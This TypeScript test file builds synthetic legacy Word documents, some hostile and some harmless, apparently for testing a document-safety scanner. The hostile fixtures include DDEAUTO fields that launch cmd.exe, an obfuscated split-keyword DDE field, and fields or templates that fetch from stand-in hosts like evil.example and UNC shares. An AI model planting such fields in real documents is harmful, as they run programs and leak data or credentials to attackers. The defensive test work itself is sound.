import { compoundFile, oldWordDocument } from '../../paper/old-word-document.ts'

const some = Buffer.alloc(600, 'x')

/** A link as Word stores it behind the placeholder of a field: the class of a moniker, its length, its address. */
function moniker(id: string, address: string): Buffer {
  const text = Buffer.from(`${address}\u0000`, 'utf16le')
  const length = Buffer.alloc(4)
  length.writeUInt32LE(text.length)
  return Buffer.concat([some, Buffer.from(id, 'hex'), length, text, some])
}
const toUrl = (address: string) => ({ Data: moniker('e0c9ea79f9bace118c8200aa004ba90b', address) })
function ole(flags: number): Buffer {
  const bytes = Buffer.alloc(20)
  bytes.writeUInt32LE(flags, 4)
  return bytes
}
const toFile = { Data: moniker('0303000000000000c000000000000046', 'a.exe') }

const field = (code: string) => `\u0013 ${code} \u0014here\u0015\r`

/** Documents of Word 97 to 2003 that run, fetch or contain something, and compound files that are no documents. */
export const hostileOldDocuments: Record<string, () => Buffer> = {
  'has macros': () => oldWordDocument({ streams: { 'Macros/VBA/dir': some, 'Macros/PROJECT': some } }),
  'has macros beside its folder': () => oldWordDocument({ streams: { '_VBA_PROJECT_CUR/VBA/dir': some } }),
  'has macros in small letters': () => oldWordDocument({ streams: { 'macros/vba/thisdocument': some } }),
  'has an embedded object': () =>
    oldWordDocument({ streams: { 'ObjectPool/_1234567890/\u0001Ole10Native': some } }),
  'has a control': () => oldWordDocument({ streams: { 'ObjectPool/_1/\u0003OCXNAME': some } }),
  'is an installer': () =>
    compoundFile({ '\u4840\u3F3F\u4577\u446C': some, '\u0005SummaryInformation': some }),
  'is an installer called a document': () =>
    oldWordDocument({ streams: { '\u4840\u3F3F\u4577\u446C': some } }),
  'is only a workbook': () => compoundFile({ Workbook: some, '\u0005SummaryInformation': some }),
  'is a workbook, too': () => oldWordDocument({ streams: { Workbook: some } }),
  'is a presentation, too': () => oldWordDocument({ streams: { 'PowerPoint Document': some } }),
  'is a mail': () => compoundFile({ '__properties_version1.0': some }),
  'has no text': () => oldWordDocument({ hasText: false }),
  'is cut off': () => oldWordDocument().subarray(0, 1000),
  'is the head of a compound file': () =>
    Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(1536)]),
  'opens with a password': () => oldWordDocument({ isEncrypted: true }),
  'starts a program by a field': () =>
    oldWordDocument({ text: field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"') }),
  'starts a program by a field in one byte a letter': () =>
    oldWordDocument({ text: field('DDEAUTO cmd'), isCompressed: true }),
  'fetches a picture': () =>
    oldWordDocument({ text: field('INCLUDEPICTURE "http://evil.example/a.png" \\d') }),
  'fetches a text': () => oldWordDocument({ text: field('INCLUDETEXT "\\\\\\\\evil\\\\a.doc"') }),
  'fetches by a field within another': () =>
    oldWordDocument({ text: `\u0013 IF 1 = 1 ${field('INCLUDETEXT "//evil/a"')}\u0014\u0015` }),
  'composes the type of a field': () =>
    oldWordDocument({ text: '\u0013 \u0013QUOTE 68\u0014D\u0015DEAUTO cmd\u0014\u0015' }),
  'links to a share': () => oldWordDocument({ text: field('HYPERLINK "\\\\\\\\evil\\\\share"') }),
  'links to a search': () => oldWordDocument({ text: field('HYPERLINK "search-ms:query=x"') }),
  'links by its data to a share': () =>
    oldWordDocument({
      text: field('HYPERLINK "https://good.example" \u0001'),
      streams: toUrl('file://evil/a'),
    }),
  'links by its data to a file': () => oldWordDocument({ streams: toFile }),
  'is linked to a source': () => oldWordDocument({ streams: { '\u0001Ole': ole(1) } }),
  'names a template of a site': () => oldWordDocument({ template: 'http://evil.example/t.dot' }),
  'names a template of a share': () => oldWordDocument({ template: '\\\\evil\\t.dot' }),
  'names a source of a merge': () => oldWordDocument({ source: 'C:\\data.mdb' }),
}

/** Documents of Word 97 to 2003 as people still send them. */
export const harmlessOldDocuments = (): Record<string, Buffer> => ({
  'ใบเสนอราคา.doc': oldWordDocument(),
  'สัญญา.doc': oldWordDocument({ text: 'ข้อตกลงจ้างผลิต ข้อ 1\r'.repeat(3000) }),
  'letter.doc': oldWordDocument({ text: 'Dear Sir or Madam\r', isCompressed: true }),
  'มีแม่แบบของเครื่อง.doc': oldWordDocument({
    template: 'C:\\Documents and Settings\\สมชาย\\Templates\\จดหมาย.dot',
  }),
  'มีเลขหน้าและสารบัญ.doc': oldWordDocument({
    text: field('TOC \\o "1-3" \\h \\z') + field('PAGE') + field('= 1 + 2') + field('MERGEFIELD ชื่อ'),
  }),
  'มีลิงก์.doc': oldWordDocument({
    text: field('HYPERLINK "https://shop.example/?a=1" \\o "ร้านค้า"') + field('HYPERLINK \\l "_Toc1"'),
  }),
  'มีลิงก์พร้อมข้อมูล.doc': oldWordDocument({
    text: field('HYPERLINK "https://shop.example/" \u0001'),
    streams: toUrl('https://shop.example/'),
  }),
  'จาก LibreOffice.doc': oldWordDocument({ streams: { '\u0001Ole': ole(0) } }),
  'มีฟิลด์ซ้อน.doc': oldWordDocument({
    text: `\u0013 IF ${field('PAGE')} = 1 "ก" "ข" \u0014ก\u0015\r`,
  }),
  'มีข้อมูลภาพ.doc': oldWordDocument({ streams: { Data: some, '0Table': some } }),
  'มีโฟลเดอร์ว่าง.doc': oldWordDocument({ streams: { 'ObjectPool/': Buffer.alloc(0) } }),
  'มีข้อมูลของ SharePoint.doc': oldWordDocument({ streams: { 'MsoDataStore/item/Properties': some } }),
})
